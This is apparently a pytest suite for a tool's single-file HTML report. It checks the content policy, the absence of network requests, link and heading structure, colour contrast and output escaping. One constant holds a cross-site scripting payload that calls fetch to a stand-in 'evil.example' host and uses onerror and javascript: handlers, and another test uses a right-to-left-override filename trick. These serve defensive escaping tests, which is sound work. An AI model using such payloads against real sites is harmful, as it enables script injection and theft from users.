"""The HTML report: whole in one file, for everybody, and nothing in it acts but our own few lines."""

import base64
import hashlib
import re
from itertools import pairwise
from typing import Any, get_args

import pytest
from hypothesis import HealthCheck, given, settings

from maturity.model.assessment import Assessment
from maturity.model.framework import ItemState
from maturity.model.rule import Text
from maturity.render.html import render
from maturity.render.style import LANGUAGES, Style
from maturity.render.templates import source
from maturity.resources import folder
from maturity.rules.compare import compare
from maturity.rules.crosswalk import chapter
from maturity.rules.frameworks import load_frameworks
from maturity.rules.load import load_catalog
from tests.render.assessments import assessments
from tests.render.example import EXAMPLE, GATE
from tests.render.html_page import Page
from tests.render.sizes import many

EVIL = "</title></style><script>fetch('//evil.example')</script><img src=x onerror=alert(1)>\"'><a href=javascript:1>"


def test_the_policy_allows_our_style_sheet_and_our_script_and_nothing_else() -> None:
    page = Page(render(EXAMPLE, Style()))
    (policy,) = [at["content"] for tag, at in page.tags if tag == "meta" and "http-equiv" in at]
    digests = [
        base64.b64encode(hashlib.sha256(page.inside[tag].encode()).digest()).decode() for tag in ("style", "script")
    ]
    assert policy == (
        f"default-src 'none'; style-src 'sha256-{digests[0]}'; script-src 'sha256-{digests[1]}'; "
        "base-uri 'none'; form-action 'none'"
    )


@pytest.mark.parametrize("language", LANGUAGES)
def test_nothing_is_asked_of_a_network(language: Any) -> None:
    page = Page(render(many(60), Style(language=language, changes=compare(EXAMPLE, many(60)))))
    assert page.attributes("src") == []
    assert page.attributes("style") == []
    assert {address[0] for address in page.attributes("href")} == {"#"}
    assert "url(" not in page.inside["style"]
    assert "@import" not in page.inside["style"]


def test_every_link_leads_to_a_place_of_the_page() -> None:
    page = Page(render(EXAMPLE, Style(changes=compare(EXAMPLE, EXAMPLE))))
    assert {address[1:] for address in page.attributes("href")} <= set(page.attributes("id"))
    assert len(page.attributes("id")) == len(set(page.attributes("id")))
    assert set(page.attributes("aria-labelledby")) <= set(page.attributes("id"))


@pytest.mark.slow
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(assessments())
def test_foreign_text_changes_no_structure(assessment: Assessment) -> None:
    page = Page(render(assessment, Style()))
    assert [tag for tag, _ in page.tags if tag in ("script", "style", "title")].count("script") == 1
    assert {tag for tag, _ in page.tags}.isdisjoint({"img", "iframe", "object", "embed", "link", "form", "base", "a:"})
    assert not [name for _, attributes in page.tags for name in attributes if name.startswith("on")]
    assert {address[0] for address in page.attributes("href")} == {"#"}


def test_markup_in_every_field_stays_text() -> None:
    harmless = render(EXAMPLE, Style())
    evil = EXAMPLE.model_copy(
        update={
            "target": EXAMPLE.target.model_copy(update={"name": EVIL, "path": EVIL, "commit": EVIL}),
            "tool": EXAMPLE.tool.model_copy(update={"version": EVIL, "catalog_digest": EVIL}),
            "level_name": Text(en=EVIL, zh=EVIL),
            "started": EVIL,
            "findings": tuple(
                finding.model_copy(
                    update={
                        "rule": EVIL,
                        "title": Text(en=EVIL, zh=EVIL),
                        "summary": Text(en=EVIL, zh=EVIL),
                        "fix": Text(en=EVIL, zh=EVIL),
                        "effort": EVIL,
                        "evidence": tuple(
                            one.model_copy(update={"path": EVIL, "text": EVIL, "kind": EVIL})
                            for one in finding.evidence
                        ),
                    }
                )
                for finding in EXAMPLE.findings
            ),
        }
    )
    page = render(evil, Style())
    assert [tag for tag, _ in Page(page).tags if tag in ("script", "style", "title", "details", "h2", "h3")] == [
        tag for tag, _ in Page(harmless).tags if tag in ("script", "style", "title", "details", "h2", "h3")
    ]
    assert Page(page).inside["script"] == source("filter.js")
    assert page.count("<script") == 1
    assert "<img" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_control_and_direction_characters_are_shown_not_sent() -> None:
    evil = GATE.model_copy(update={"summary": Text(en="a\x00\x1b[2J\u202egnp.exe\u200b", zh="")})
    page = render(EXAMPLE.model_copy(update={"findings": (evil,)}), Style())
    assert "a\\x00\\x1b[2J\\u202egnp.exe\\u200b" in page
    assert re.search("[\x00\x1b\u202e\u200b]", page) is None


def test_headings_nest_and_pictures_speak() -> None:
    page = Page(render(many(30), Style()))
    levels = [int(tag[1]) for tag, _ in page.tags if re.fullmatch("h[1-6]", tag)]
    assert levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    drawings = [index for index, (tag, _) in enumerate(page.tags) if tag == "svg"]
    assert drawings
    assert all(page.tags[index + 1][0] == "title" for index in drawings)
    assert "Radar of the level (0 to 3) of each principle: Automation 3, Continuity 3, Versioning 2" in page.text


def test_a_page_names_its_language() -> None:
    assert '<html lang="en">' in render(EXAMPLE, Style())
    assert '<html lang="zh-CN">' in render(EXAMPLE, Style(language="zh"))


def luminance(colour: str) -> float:
    digits = colour.lstrip("#")
    parts = [
        int(part * (2 if len(digits) == 3 else 1), 16) / 255 for part in re.findall("." * (len(digits) // 3), digits)
    ]
    linear = [part / 12.92 if part <= 0.03928 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize(
    ("ink", "ground"),
    [
        *[
            (ink, ground)
            for ink in ("ink", "quiet", "accent", "fail", "pass", "doubt")
            for ground in ("paper", "plane")
        ],
        *[(name, f"{name}-on") for name in ("pass", "fail", "doubt", "none")],
    ],
)
def test_text_stands_out_from_its_ground(scheme: str, ink: str, ground: str) -> None:
    rules = re.findall(r":root \{(.*?)\}", source("page.css"), re.DOTALL)
    colours: dict[str, str] = {}
    for rule in rules[: 1 if scheme == "light" else 2]:
        colours |= dict(re.findall(r"--([\w-]+): (#[0-9a-f]+)", rule))
    bright, dark = sorted((luminance(colours[ink]), luminance(colours[ground])), reverse=True)
    assert (bright + 0.05) / (dark + 0.05) >= 4.5


def test_findings_fold_and_stand_in_full() -> None:
    page = Page(render(EXAMPLE, Style()))
    assert [at["data-status"] for tag, at in page.tags if tag == "details"] == [
        "fail",
        "pass",
        "unknown",
        "not-assessed",
    ]
    for words in (
        ".github/workflows/ci.yml:31 make train",
        "src/train.py:88 model.fit(x, y)",
        "No program compares a metric with a threshold.",
        "docs/card.md: larger than 1 MiB",
        "with uncommitted changes",
        "Put the threshold into params.yaml.",
    ):
        assert words in page.text


def test_a_framework_becomes_a_chapter() -> None:
    checks = folder("checks")
    frameworks = load_frameworks(checks, {rule.id for rule in load_catalog(checks).rules})
    results = tuple(chapter(framework, EXAMPLE) for framework in frameworks.values())
    page = Page(render(EXAMPLE, Style(chapters=results)))
    for number, result in enumerate(results, start=1):
        assert f"#framework-{number}" in page.attributes("href")
        assert result.name.en in page.text
        assert f"{result.coverage.in_scope} of {result.coverage.items} items in scope" in page.text
    rows = sum(len(section.items) for result in results for section in result.sections)
    assert sum(at.get("class", "") in get_args(ItemState) for tag, at in page.tags if tag == "td") >= rows


def test_what_changed_is_told() -> None:
    later = EXAMPLE.model_copy(
        update={"findings": tuple(one.model_copy(update={"status": "pass"}) for one in EXAMPLE.findings)}
    )
    page = Page(render(later, Style(changes=compare(EXAMPLE, later))))
    assert "Change since last time Before (2026-01-02T03:04:05Z, commit 3f2a91c0de): level 1, score 50 %." in page.text
    assert "better An evaluation gate blocks bad models evaluation-gate · level 2, required fail → pass" in page.text
